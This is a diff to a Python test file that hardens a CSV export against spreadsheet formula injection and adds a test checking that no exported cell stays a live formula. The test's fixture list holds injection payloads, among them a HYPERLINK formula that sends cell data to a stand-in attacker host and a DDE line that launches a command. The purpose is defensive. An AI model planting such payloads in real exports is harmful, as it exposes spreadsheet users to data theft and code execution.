@@ -76,7 +76,12 @@ def expected_rows(db) -> dict[str, list[dict]]:
 
 
 def as_text(value):
-    return "" if value is None else str(value)
+    """A value as a CSV cell reads back: text a spreadsheet would run as a formula carries a leading quote."""
+    if value is None:
+        return ""
+    if isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r"):
+        return "'" + value
+    return str(value)
 
 
 def test_export_csv_round_trips(db, tmp_path):
@@ -90,6 +95,44 @@ def test_export_csv_round_trips(db, tmp_path):
         assert list(rows[0].keys()) == cols if rows else True
         assert rows == [{c: as_text(r.get(c)) for c in cols} for r in expected[name]], name
     assert len(expected["units"]) == 7 and len(expected["figures"]) == 3
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+]
+
+
+def test_export_csv_never_writes_a_live_formula(tmp_path):
+    """A title, unit, person or scope name written to look like a formula is text in every CSV file."""
+    db, out = tmp_path / "archive.sqlite", tmp_path / "csv"
+    text = "\n".join(FORMULAS) + "\nThe review of Dong Nai Social Security.\n"
+    rec = records_for(
+        text,
+        source="corpus/=evil.txt",
+        units=[{"name": FORMULAS[1], "mentions": [FORMULAS[1]], "quote": FORMULAS[1]}],
+        people=[{"name": FORMULAS[3], "unit": FORMULAS[1], "quote": FORMULAS[3]}],
+        figures=[
+            {"metric": "si_participants", "value": -5, "scope": FORMULAS[2], "as_of": "2025", "quote": FORMULAS[2]}
+        ],
+        warnings=[FORMULAS[4], FORMULAS[5]],
+    )
+    assert rec.document.title == FORMULAS[0]
+    with Archive(db) as arc:
+        arc.store(rec, file_hash="h", source_key="/c/evil", office="t")
+    assert invoke("archive", "export", "--format", "csv", "--out", str(out), "--db", str(db)).exit_code == 0
+    cells = []
+    for path in sorted(out.glob("*.csv")):
+        with open(path, encoding="utf-8-sig", newline="") as fh:
+            cells += [cell for row in csv.reader(fh) for cell in row]
+    assert cells and not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or c.startswith("-2")]
+    for formula in FORMULAS:
+        assert "'" + formula in cells
+    assert "-5" in cells or "-5.0" in cells  # numbers stay numbers
 
 
 def test_export_xlsx_round_trips(db, tmp_path):
